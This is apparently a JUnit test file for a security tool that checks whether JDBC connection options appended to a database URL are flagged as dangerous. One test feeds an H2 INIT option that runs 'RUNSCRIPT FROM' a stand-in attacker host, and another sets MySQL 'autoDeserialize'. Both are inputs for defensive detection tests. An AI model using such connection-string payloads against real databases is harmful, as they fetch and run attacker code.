package dev.armor.interceptors.sql;

import static org.assertj.core.api.Assertions.assertThat;

import dev.armor.pipeline.sql.SqlAnalyser;
import dev.armor.pipeline.verdict.Decision;
import dev.armor.pipeline.verdict.Finding;
import java.util.Properties;
import org.junit.jupiter.api.Test;

class ConnectOptionsTest {
  @Test
  void anOptionBesideTheUrlIsJudgedAsOneWithinIt() {
    Properties options = options("autoDeserialize", "true");

    String url = ConnectOptions.append("jdbc:mysql://db.example/shop?useSSL=true", options);

    assertThat(SqlAnalyser.analyzeJdbcUrl(url).findings())
        .extracting(Finding::rule)
        .contains("jdbc.option-autodeserialize");
  }

  @Test
  void aStatementBesideTheUrlIsReadToItsEnd() {
    Properties options = options("INIT", "SELECT 1; RUNSCRIPT FROM 'http://evil.example/a.sql'");

    String url = ConnectOptions.append("jdbc:h2:mem:shop", options);

    assertThat(SqlAnalyser.analyzeJdbcUrl(url).least()).isNotEqualTo(Decision.ALLOW);
  }

  @Test
  void credentialsStayOut() {
    Properties options = options("user", "sa");
    options.setProperty("password", "secret");

    assertThat(ConnectOptions.append("jdbc:h2:mem:shop", options)).isEqualTo("jdbc:h2:mem:shop");
  }

  @Test
  void ordinaryOptionsStayHarmless() {
    Properties options = options("ApplicationName", "a;b=c&d%");

    String url = ConnectOptions.append("jdbc:postgresql://db.example/shop", options);

    assertThat(SqlAnalyser.analyzeJdbcUrl(url).findings()).isEmpty();
    assertThat(SqlAnalyser.analyzeJdbcUrl(url).hosts()).containsExactly("db.example");
  }

  private static Properties options(String name, String value) {
    Properties options = new Properties();
    options.setProperty(name, value);
    return options;
  }
}
